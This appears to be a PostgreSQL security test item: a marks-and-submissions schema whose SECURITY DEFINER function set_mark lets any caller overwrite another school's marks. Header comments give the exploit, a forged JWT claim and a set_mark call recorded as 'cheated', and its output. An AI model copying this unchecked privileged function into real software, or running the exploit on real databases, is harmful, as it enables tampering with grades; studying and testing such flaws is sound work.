-- The function gives a mark to any submission, whose school a trigger finds by the id alone.
-- about: set_mark, marks, fill_school, marks_fill_school
-- as: hf_classrooms_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT 'points ' || set_mark('22222222-0000-0000-0000-000000000004', 7, 'cheated');
-- shows: points 7
-- Marks are given by the submission's id; the school follows from it.
CREATE FUNCTION fill_school() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  SELECT s.school_id INTO NEW.school_id FROM submissions s WHERE s.id = NEW.submission_id;
  RETURN NEW;
END
$$;
CREATE TRIGGER marks_fill_school BEFORE INSERT ON marks FOR EACH ROW EXECUTE FUNCTION fill_school();
CREATE FUNCTION set_mark(submission uuid, p integer, r text) RETURNS integer
LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS $$
  INSERT INTO marks (submission_id, points, remark) VALUES (submission, p, r)
  ON CONFLICT (school_id, submission_id) DO UPDATE SET points = EXCLUDED.points, remark = EXCLUDED.remark
  RETURNING points
$$;
